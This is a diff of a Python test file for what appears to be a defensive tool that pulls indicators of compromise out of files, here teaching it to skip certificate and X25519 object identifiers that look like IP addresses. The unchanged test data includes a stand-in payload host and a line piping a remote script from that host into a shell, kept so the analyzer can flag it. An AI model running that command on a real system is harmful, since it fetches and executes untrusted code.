@@ -273,6 +273,7 @@ REFERENCE_NOTES = b'\n'.join([
     b'mirror https://payload.kcsi-drop.net/stage2 and https://raw.githubusercontent.com/kcsi/x/main/README',
     b'vault https://vault.corp.internal/v1/secret and 192.0.0.8 in text',
     b'wiki https://kcsi-wiki.net/Tar_(computing), (see https://kcsi-wiki.net/x)',
+    b'oids: X25519 1.3.101.110, commonName 2.5.4.3, subjectAltName 2.5.29.17; peer 2.56.4.3',
 ])
 
 
@@ -283,7 +284,8 @@ def test_documentation_and_reference_text_is_not_listed():
     IOCs on the lab's scenes.  In text, addresses no peer has
     (documentation, reserved), documentation names, network prefixes and the
     names of reference sites are not listed; hosts (a /32 too), a network's
-    own names (.internal) and code hosts are.  A URL keeps a closing bracket
+    own names (.internal) and code hosts are; object identifiers that look
+    like addresses (X25519's 1.3.101.110) are not.  A URL keeps a closing bracket
     that closes one it opened."""
     r = _analyze(_counter_with('reference', files=[('/srv/notes.txt', REFERENCE_NOTES)]))
     eq([f['id'] for f in r['findings'] if f['severity'] != 'low'], [], 'no finding points at the notes')
@@ -292,9 +294,10 @@ def test_documentation_and_reference_text_is_not_listed():
              ('url', 'https://payload.kcsi-drop.net/stage2'), ('domain', 'raw.githubusercontent.com'),
              ('url', 'https://raw.githubusercontent.com/kcsi/x/main/README'),
              ('url', 'https://vault.corp.internal/v1/secret'), ('url', 'https://kcsi-wiki.net/Tar_(computing)'),
-             ('url', 'https://kcsi-wiki.net/x')],
+             ('url', 'https://kcsi-wiki.net/x'), ('ipv4', '2.56.4.3')],
             ('192.0.2.1', '198.51.100.7', '203.0.113.9', '2001:db8', '10.20.0.0', 'fd00:', 'python.org',
-             'rfc-editor.org', 'gnu.org', 'wikipedia.org', 'example.com', 'example.org', '192.0.0.8'))
+             'rfc-editor.org', 'gnu.org', 'wikipedia.org', 'example.com', 'example.org', '192.0.0.8', '1.3.101.110',
+             '2.5.4.3', '2.5.29.17'))
     # a finding about the file (a script's URL in it) names that URL, not the rest of the file
     flagged = REFERENCE_NOTES + b'\nthen curl -s https://payload.kcsi-drop.net/s.sh | sh\n'
     r = _analyze(_counter_with('reference-flagged', files=[('/srv/notes.txt', flagged)]))
